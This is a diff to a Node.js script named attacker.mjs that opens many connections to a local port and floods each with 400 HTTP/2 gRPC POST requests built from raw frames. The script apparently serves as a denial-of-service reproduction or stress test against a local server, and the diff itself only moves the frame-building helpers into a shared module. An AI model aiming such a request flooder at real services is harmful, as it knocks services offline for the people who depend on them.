@@ -3,10 +3,9 @@
 //
 //   node attacker.mjs PORT CONNECTIONS
 import { connect } from 'node:net';
+import { PREFACE, frame, literal } from './frames.mjs';
 
 const [port, connections] = process.argv.slice(2).map(Number);
-const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0', 'latin1');
-const text = (value) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
 const fields = {
   ':method': 'POST',
   ':scheme': 'http',
@@ -14,16 +13,8 @@ const fields = {
   'content-type': 'application/grpc',
   te: 'trailers',
 };
-const block = Buffer.concat(Object.entries(fields).flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]));
-
-function frame(type, flags, id, payload) {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(id, 5);
-  return Buffer.concat([head, payload]);
-}
+const block = Buffer.concat(Object.entries(fields).map(([name, value]) => literal(name, value)));
+const hello = Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]);
 
 /** What a connection sends at once: 400 requests, and their ends. */
 const REQUESTS = 400;
@@ -41,7 +32,7 @@ function attack() {
   let burst = 0;
   const socket = connect(port, '127.0.0.1', () => {
     made++;
-    socket.write(preface);
+    socket.write(hello);
     flood();
   });
   const flood = () => {
